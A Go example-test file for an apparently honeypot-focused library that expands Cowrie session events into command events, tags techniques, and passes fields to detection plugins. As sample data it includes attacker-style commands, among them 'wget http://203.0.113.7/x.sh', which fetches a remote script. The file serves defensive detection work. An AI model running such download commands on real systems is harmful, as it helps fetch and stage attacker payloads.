package abi_test

import (
	"fmt"
	"time"

	"github.com/decnet/ttp/abi"
)

// A session reported at its end becomes itself plus one command event per command, so the
// command rules see every command typed.
func ExampleExpand() {
	ev, err := abi.DecodeEvent([]byte(`{"source_kind":"session","source_id":"cowrie-9c2e",
		"payload":{"commands":["uname -a",{"id":"cmd-7","text":"cat /proc/cpuinfo"}]}}`))
	if err != nil {
		panic(err)
	}
	for _, e := range abi.Expand(ev) {
		fmt.Println(e.SourceKind, e.SourceID, e.Payload["command_text"])
	}
	// Output:
	// session cowrie-9c2e <nil>
	// command cowrie-9c2e#0 uname -a
	// command cmd-7 cat /proc/cpuinfo
}

// The same tag always gets the same id, and ids sort by the event's time.
func ExampleTagUUID() {
	at := time.Date(2026, 11, 27, 5, 10, 28, 123e6, time.UTC)
	fmt.Println(abi.TagUUID(at, "R0013", "9f2c1a7b3d4e5f60", "command", "cowrie-5f1e#3", "T1098", "T1098.004", "persistence"))
	// Output: 01a21b69-7e1b-8f7d-9cdd-86ab7f5087b4
}

// Decoding names the field that makes an event unusable.
func ExampleDecodeEvent() {
	_, err := abi.DecodeEvent([]byte(`{"source_kind":"command","payload":{"command_text":"id"}}`))
	fmt.Println(err)
	// Output: abi: event: field "source_id": missing required field
}

// The host projects the fields a plugin declared into a record (AppendRecord); the guest
// reads them by index, without parsing anything (Record).
func ExampleRecord() {
	paths := []abi.Path{}
	for _, f := range []string{"payload.command_text", "payload.args"} {
		p, err := abi.ParsePath(f)
		if err != nil {
			panic(err)
		}
		paths = append(paths, p)
	}
	ev := abi.Event{SourceKind: "command", SourceID: "c1", Payload: map[string]any{
		"command_text": "wget http://203.0.113.7/x.sh", "args": []any{"wget", "http://203.0.113.7/x.sh"}}}
	data := abi.AppendRecord(nil, 0, paths, &ev)

	var r abi.Record
	if err := r.Reset(data); err != nil {
		panic(err)
	}
	fmt.Println(r.String(0))
	list := r.StringList(1)
	for s, ok := list.Next(); ok; s, ok = list.Next() {
		fmt.Println(" arg:", s)
	}
	// Output:
	// wget http://203.0.113.7/x.sh
	//  arg: wget
	//  arg: http://203.0.113.7/x.sh
}

// A guest answers with drafts built in a ReplyBuilder: each names a configured rule and one
// of its emits by index, with a scale and evidence by key index; the host decodes and bounds
// them (DecodeReply).
func ExampleReplyBuilder() {
	var b abi.ReplyBuilder
	b.Reset()
	b.Draft(0, 0, 0.5)
	b.EvidenceString(0, "wget")
	drafts, err := abi.DecodeReply(b.Bytes(), abi.ReplyLimits{Emits: []int{1}, EvidenceKeys: 1}, nil)
	if err != nil {
		panic(err)
	}
	for _, d := range drafts {
		fmt.Println(d.Rule, d.Emit, d.Scale, d.Evidence[0].Key, d.Evidence[0].Value)
	}
	// Output: 0 0 0.5 0 wget
}
